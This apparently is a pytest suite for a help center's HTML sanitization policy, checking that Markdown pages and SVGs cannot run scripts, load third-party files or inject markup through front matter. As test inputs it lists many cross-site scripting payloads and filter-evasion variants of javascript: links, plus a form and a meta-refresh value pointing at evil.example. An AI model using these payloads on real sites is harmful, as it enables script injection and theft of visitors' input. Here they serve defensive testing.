"""The HTML policy (helpcenter/content/checks/html.py): no page of the help center runs a script, loads a file from
another host or passes markup through its front matter; each refusal names its line."""

from __future__ import annotations

import re
import shutil
from datetime import date
from pathlib import Path

import markdown
import pytest
import yaml

from helpcenter.content.check import check_content
from helpcenter.content.checks.html import body_problems, rendered_problems, svg_problems, url_problem
from helpcenter.content.checks.navigation import _ConfigLoader
from helpcenter.content.pages import load_page
from tests.conftest import CONTENT, ROOT, mkdocs_build

# The build's messages in English, as these tests read them (Indonesian by default).
ENGLISH = {"HELPCENTER_LANG": "en"}

TODAY = date(2026, 11, 25)
PROBE = Path(__file__).parent / "fixtures" / "hostile" / "probe.md"
# The probe page's payloads: what each one runs when a browser gets the page, the line that carries it and what
# the check says there.
PAYLOADS = {
    "script": (11, "the HTML element <script> is not allowed on a help page"),
    "onerror": (13, "the attribute 'onerror' runs a script, which help pages never do; remove it"),
    "svg": (15, "the HTML element <svg> is not allowed on a help page"),
    "link": (17, "the link 'javascript:window.pwned.push(%22link%22' is not allowed"),
    "reference": (21, "the link 'javascript:window.pwned.push('reference')' is not allowed"),
    "entity": (23, "the link 'jav&#x61;script:window.pwned.push('entity')' is not allowed"),
    "attr-list": (25, "the attribute 'onclick' runs a script, which help pages never do; remove it"),
    "ontoggle": (27, "the attribute 'ontoggle' runs a script, which help pages never do; remove it"),
    "code-in-html": (31, "the HTML element <script> is not allowed on a help page"),
    "unclosed-fence": (34, "the HTML element <script> is not allowed on a help page"),
}
THIRD_PARTY_IMAGE = (29, "the image 'https://pelacak.example/pixel.png' is not a file of the help center")


def _markdown(text: str) -> str:
    """`text` rendered by Python-Markdown alone, with the extensions of the project's mkdocs.yml."""
    config = yaml.load((ROOT / "mkdocs.yml").read_text(), Loader=_ConfigLoader)
    names, settings = [], {}
    for item in config["markdown_extensions"]:
        name, options = next(iter(item.items())) if isinstance(item, dict) else (item, {})
        if name != "pymdownx.emoji":  # its index is a Python name the config loader leaves out
            names.append(name)
            settings[name] = options or {}
    return markdown.markdown(text, extensions=names, extension_configs=settings)


def _located(problems: list) -> list[tuple[int, str]]:
    return [(p.line, p.message) for p in problems]


# ---------------------------------------------------------------------------------------------------- the probe

@pytest.mark.browser
def test_the_probes_payloads_run_in_chromium_when_markdown_passes_them_through(browser) -> None:
    """Without the policy each payload of the probe page runs, and the image comes from another host."""
    body = PROBE.read_text().split("---\n", 2)[2]
    context = browser.new_context()
    requests: list[str] = []
    context.route("https://**", lambda route: route.abort())
    page = context.new_page()
    page.on("request", lambda request: requests.append(request.url))
    page.set_content("<script>window.pwned = []</script>" + _markdown(body))
    for name in ("Klik di sini", "Klik juga", "Klik lagi", "Tombol"):
        page.get_by_text(name).click(no_wait_after=True)
    page.wait_for_function(f"window.pwned.length >= {len(PAYLOADS)}")
    assert sorted(page.evaluate("window.pwned")) == sorted(PAYLOADS)
    assert "https://pelacak.example/pixel.png" in requests
    context.close()


def test_the_check_refuses_every_payload_of_the_probe_on_its_line(tmp_path: Path) -> None:
    content = tmp_path / "content"
    shutil.copytree(CONTENT, content)
    shutil.copy(PROBE, content / "faq" / "uji.md")
    problems = [p for p in check_content(content, TODAY).problems if p.file.endswith("faq/uji.md")]
    expected = sorted([*PAYLOADS.values(), THIRD_PARTY_IMAGE])
    found = sorted(_located(problems))
    for line, message in expected:
        assert any(at == line and text.startswith(message) for at, text in found), (line, message, found)
    assert {line for line, _ in found} == {line for line, _ in expected}


def test_the_build_refuses_the_probe_and_publishes_nothing(content_copy: Path) -> None:
    shutil.copy(PROBE, content_copy / "faq" / "uji.md")
    work = content_copy.parent / "work"
    result = mkdocs_build(content_copy, work, env=ENGLISH)
    assert result.returncode == 1
    for line, message in [*PAYLOADS.values(), THIRD_PARTY_IMAGE]:
        assert f"{content_copy}/faq/uji.md:{line}: {message}" in result.stderr
    assert not (work / "site").exists()


def test_what_the_source_check_cannot_see_the_build_refuses_from_the_rendered_page(content_copy: Path) -> None:
    """An extension the source check does not know (pymdownx.blocks.html, if a shop turned it on) can still
    make a <script>; the build reads each rendered page too."""
    page = content_copy / "faq" / "pembayaran.md"
    page.write_text(page.read_text() + "\n/// html | script\nwindow.pwned = 1\n///\n")
    assert [p for p in check_content(content_copy, TODAY).problems if p.severity == "error"] == []
    config = (ROOT / "mkdocs.yml").read_text()
    extensions = config[config.index("markdown_extensions:"):config.index("\nextra_css:")]
    result = mkdocs_build(content_copy, content_copy.parent / "work",
                          extra_config=extensions + "  - pymdownx.blocks.html\n", env=ENGLISH)
    assert result.returncode == 1
    line = page.read_text().splitlines().index("/// html | script") + 1
    assert (f"{content_copy}/faq/pembayaran.md:{line}: the page renders to HTML that help pages may not contain "
            "(<script>); rewrite that part in plain Markdown") in result.stderr


@pytest.mark.parametrize(("html", "found"), [
    ("<p>ok</p><script>x()</script>", "<script>"),
    ("<p>ok</p><IFRAME src=x></IFRAME>", "<iframe>"),
    ('<p onclick="x()">ok</p>', "onclick="),
    ('<td style="text-align: left">1</td>', "style="),
    ('<a href="jav&#x61;script:x()">x</a>', 'href="jav&#x61;script:x()"'),
    ("<img alt=x src=https://pelacak.example/p.gif>", 'src="https://pelacak.example/p.gif"'),
    ('<p><code>&lt;a href="javascript:x()"&gt;</code> <a class="headerlink" href="#cod">¶</a></p>', None),
    ('<p><img alt="x" src="../img/a.png" /> <input type="radio" id="__tabbed_1_1" name="__tabbed_1"></p>', None),
])
def test_the_rendered_page_is_checked_as_a_last_guard(html: str, found: str | None) -> None:
    page = load_page(CONTENT, "faq/pembayaran.md")[0]
    problems = rendered_problems(page, html)
    assert [p.params[0][1] for p in problems] == ([found] if found else [])


# ---------------------------------------------------------------------------------------------------- what is fine

SAFE = """Tekan <kbd>Ctrl</kbd>+<kbd>C</kbd>, lalu H<sub>2</sub>O dan m<sup>2</sup> dan <mark>penting</mark>.<br>

<details markdown>
<summary>Lihat detail</summary>
Isi **detail**, dengan <abbr title="Cash on Delivery">COD</abbr>.
</details>

<figure markdown>
![Halaman pesanan](img/pesanan.png){ width="300" loading=lazy }
<figcaption>Halaman pesanan</figcaption>
</figure>

[Chat WhatsApp](https://wa.me/6281200001234?text=Halo), [e-mail](mailto:cs@toko.example),
[telepon](tel:+622150001234), [halaman lain](../kebijakan/refund.md#syarat), [bagian ini](#cod),
<https://toko.example/promo>, <cs@toko.example>.

## Bayar di tempat {#cod .penting}

Ketik `<nomor resi>` lalu kirim; `<script>` di kode hanyalah teks.

```html
<script>window.pwned = 1</script>
<img src="https://pelacak.example/x.png" onerror="x()">
```

| Metode | Biaya |
|:--|--:|
| COD | <span title="per pesanan">Rp5.000</span> |

Syarat & ketentuan berlaku; 5 < 7 dan 9 > 3.
"""


def test_what_a_help_page_needs_passes() -> None:
    assert body_problems("x.md", SAFE) == []


def test_the_sample_shop_passes() -> None:
    assert check_content(CONTENT, TODAY).problems == []


# ---------------------------------------------------------------------------------------------------- the rules

@pytest.mark.parametrize(("markdown_text", "line", "message"), [
    ("<iframe src='https://youtube.com/embed/x'></iframe>", 1, "the HTML element <iframe> is not allowed"),
    ("<style>.md-header{display:none}</style>", 1, "the HTML element <style> is not allowed"),
    ("<form action='https://evil.example'><input name=pin></form>", 1, "the HTML element <form> is not allowed"),
    ("<object data=x.swf></object>", 1, "the HTML element <object> is not allowed"),
    ("<embed src=x>", 1, "the HTML element <embed> is not allowed"),
    ("<p style='position:fixed'>x</p>", 1, "the attribute 'style' is not allowed"),
    ("<b ONMOUSEOVER=alert(1)>x</b>", 1, "the attribute 'onmouseover' runs a script"),
    ("<img/src=x/onerror=alert(1)>", 1, "the attribute 'alert(1)' is not allowed on <img>"),
    ("<a href=x target=_blank>x</a>", 1, "the attribute 'target' is not allowed on <a>"),
    ("<span id='__config'>{}</span>", 1, "the id '__config' starts with '__'"),
    ("## Judul {#__search}", 1, "the id '__search' starts with '__'"),
    ("Teks\n{: style=\"color:red\" }", 2, "the attribute 'style' is not allowed"),
    ("[x](https://a.example){ href=\"javascript:alert(1)\" }", 1, "the link 'javascript:alert(1)' is not allowed"),
    ("[x](http://toko.example)", 1, "the link 'http://toko.example' is not secure: write https://"),
    ("[x](//evil.example/x)", 1, "the link '//evil.example/x' is not allowed"),
    ("[x](<javascript:alert(1)>)", 1, "the link 'javascript:alert(1)' is not allowed"),
    ("[x](data:text/html;base64,PHNjcmlwdD4=)", 1, "the link 'data:text/html;base64,PHNjcmlwdD4=' is not allowed"),
    ("<javascript:alert(1)>", 1, "the link 'javascript:alert(1)' is not allowed"),
    ("![x](/img/a.png)", 1, "the image '/img/a.png' is not a file of the help center"),
    ("![x](data:image/png;base64,AAAA)", 1, "the image 'data:image/png;base64,AAAA' is not a file"),
    ("![x][p]\n\n[p]: https://pelacak.example/p.gif", 1, "the image 'https://pelacak.example/p.gif' is not a file"),
    ("<img src='https://pelacak.example/p.gif' alt='x'>", 1, "the image 'https://pelacak.example/p.gif' is not"),
    ("a\n\n/// caption\n    attrs: {onclick: x()}\nTeks\n///", 4, "the attribute 'onclick' runs a script"),
    ("/// caption\n    attrs: &a {id: x}\n///", 2, "YAML anchors and aliases ('&a') are not allowed"),
    ("```\n<script>x()</script>\n````", 2, "the HTML element <script> is not allowed"),
    ("Harga <Rp5.000 dan >Rp1.000", 1, "the HTML element <rp5.000> is not allowed"),
])
def test_the_policy_refuses_and_locates(markdown_text: str, line: int, message: str) -> None:
    problems = _located(body_problems("x.md", markdown_text))
    assert problems and problems[0][0] == line and problems[0][1].startswith(message), problems


@pytest.mark.parametrize(("url", "image", "code"), [
    ("../kebijakan/refund.md#syarat", False, None),
    ("#cod", False, None),
    ("/kontak/", False, None),
    ("https://wa.me/6281200001234?text=Halo", False, None),
    ("mailto:cs@toko.example", False, None),
    ("tel:+622150001234", False, None),
    ("HTTPS://TOKO.EXAMPLE", False, None),
    ("img/pesanan.png", True, None),
    ("javascript:alert(1)", False, "html.link"),
    ("JaVaScRiPt:alert(1)", False, "html.link"),
    (" \tjava\nscript:alert(1)", False, "html.link"),
    ("\x01javascript:alert(1)", False, "html.link"),
    ("javascript&colon;alert(1)", False, "html.link"),
    ("&#106;avascript:alert(1)", False, "html.link"),
    ("javascript\\:alert(1)", False, "html.link"),
    ("vbscript:x", False, "html.link"),
    ("whatsapp://send?phone=62812", False, "html.link"),
    ("/\\evil.example/x", False, "html.link"),
    ("http://toko.example", False, "html.link_http"),
    ("https://toko.example/a.png", True, "html.image"),
    ("//toko.example/a.png", True, "html.image"),
    ("/assets/a.png", True, "html.image"),
])
def test_addresses_are_read_as_a_browser_reads_them(url: str, image: bool, code: str | None) -> None:
    assert url_problem(url, image=image) == code


def test_front_matter_is_plain_text(content_copy: Path) -> None:
    """MkDocs' templates print front-matter values unescaped: a title became <h1>Bayar <img onerror=...></h1>."""
    page = content_copy / "faq" / "pembayaran.md"
    text = page.read_text().replace("title: Pembayaran", "title: Bayar <img src=x onerror=alert(1)>", 1)
    text = re.sub(r"(?m)^description: .*$", "description: '0;url=https://evil.example\" http-equiv=\"refresh'", text)
    page.write_text(text)
    problems = [(p.line, p.field, p.message) for p in check_content(content_copy, TODAY).problems]
    assert problems == [
        (3, "title", "'title' is plain text, but '<img src=x o' would be read as HTML; write it without angle "
                     "brackets"),
        (4, "description", "'description' must not contain double quotes (\"): use “…” or '…' instead"),
    ]


def test_svg_images_carry_no_script_and_no_reference_elsewhere() -> None:
    svg = ('<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">\n'
           '<script>alert(1)</script>\n<rect onclick="alert(1)"/>\n<image xlink:href="https://pelacak.example/x"/>\n'
           '<foreignObject><p>x</p></foreignObject>\n<style>@import url(https://evil.example/a.css)</style>\n</svg>')
    assert [(p.line, dict(p.params)["found"]) for p in svg_problems("a.svg", svg)] == [
        (2, "<script>"), (5, "<foreignObject>"), (3, "an event attribute (on...)"),
        (4, "a link or reference to another file (href)"), (6, "a reference to another file (url(...))"),
        (6, "@import"),
    ]
    fine = ('<svg xmlns="http://www.w3.org/2000/svg"><defs><linearGradient id="g"/></defs>'
            '<rect fill="url(#g)"/><use href="#g"/><image href="data:image/png;base64,AAAA"/></svg>')
    assert svg_problems("b.svg", fine) == []
